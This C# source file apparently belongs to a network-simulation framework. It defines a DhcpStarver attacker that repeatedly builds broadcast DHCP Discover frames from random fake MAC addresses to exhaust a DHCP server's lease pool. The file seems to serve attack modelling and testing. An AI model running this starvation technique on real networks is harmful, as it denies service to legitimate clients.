using Weft.Model;
using Weft.Wire;
using Weft.Wire.Dhcp;

namespace Weft.Simulation;

/// <summary>Asks for one lease after the other in the name of clients that do not exist.</summary>
public sealed class DhcpStarver(AttackPace pace, RandomSource random) : PacedAttacker(pace)
{
    private const byte HopLimit = 64;

    protected override void Strike(long number, IHostEffects effects)
    {
        MacAddress mac = AttackAddresses.DrawMac(random);
        Span<byte> frame = stackalloc byte[FrameLimit];
        int length = new EthernetHeader(MacAddress.Broadcast, mac, EtherType.Ipv4).Write(frame);
        Span<byte> message = frame[(length + Ipv4Header.Length + UdpHeader.Length)..];
        uint transaction = (uint)random.NextUInt64();
        int written = new DhcpHeader(
            DhcpOperation.Request, 0, transaction, 0, DhcpCodePoints.BroadcastFlag, default, default, default, default, mac).Write(message);
        DhcpOptionWriter options = new(message[written..]);
        options.Write(DhcpMessageType.Discover);
        int datagram = UdpHeader.Length + DhcpMessages.Finish(message, ref options);
        length += new Ipv4Header(0, 0, 0, HopLimit, IpProtocol.Udp, IpAddress.Ipv4Any, IpAddress.Ipv4Broadcast).Write(frame[length..], datagram);
        new UdpHeader(DhcpCodePoints.ClientPort, DhcpCodePoints.ServerPort).Write(frame.Slice(length, datagram), IpAddress.Ipv4Any, IpAddress.Ipv4Broadcast);
        effects.Send(frame[..(length + datagram)]);
    }
}
